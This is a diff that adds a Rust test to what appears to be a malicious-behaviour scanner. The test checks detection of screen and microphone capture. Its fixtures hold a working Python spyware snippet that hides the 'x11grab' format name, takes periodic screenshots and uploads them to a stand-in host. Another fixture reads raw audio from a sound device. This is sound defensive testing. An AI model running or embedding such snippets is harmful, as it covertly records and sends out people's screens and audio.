@@ -94,3 +94,21 @@ fn kernel_reached_through_raw_syscalls_and_memory_devices() {
     assert!(!rules(&a).contains(&"MB939"), "{:?}", a.findings);
     assert!(a.verdict < Verdict::Blocked);
 }
+
+#[test]
+fn captured_screen_or_microphone_sent_away() {
+    // A screen grab whose input format is built from pieces, run by a
+    // helper whose output file is then uploaded.
+    let spy = "import subprocess, requests, time\nFMT = 'x11' + 'grab'\ndef grab(out):\n    subprocess.run(['ffmpeg', '-y', '-f', FMT, '-i', ':0', '-frames:v', '1', out])\n    return out\nwhile True:\n    requests.put('https://drop.example/u', data=open(grab('s.png'), 'rb'))\n    time.sleep(60)\n";
+    let a = run(spy);
+    assert!(rules(&a).contains(&"MB940"), "{:?}", a.findings);
+    assert_eq!(a.verdict, Verdict::Blocked);
+    let mic = "def tap(dev):\n    with open(dev, 'rb') as f:\n        return f.read(4096)\n\nchunk = tap('/dev/snd/pcmC0D0c')\n";
+    let a = run(mic);
+    assert_eq!(finding(&a, "MB216").line, 2);
+    // Transcoding a recording and one screenshot of one's own window are
+    // not surveillance, even in a script that uploads.
+    let honest = "import subprocess, requests\nsubprocess.run(['ffmpeg', '-i', 'talk.mp4', 'talk.webm'])\nsubprocess.run(['xwd', '-id', '0x3a00007', '-out', 'w.xwd'])\nrequests.post('https://ci.example/artifacts', files={'f': open('talk.webm', 'rb')})\n";
+    let a = run(honest);
+    assert!(a.verdict < Verdict::High, "{:?}", a.findings);
+}
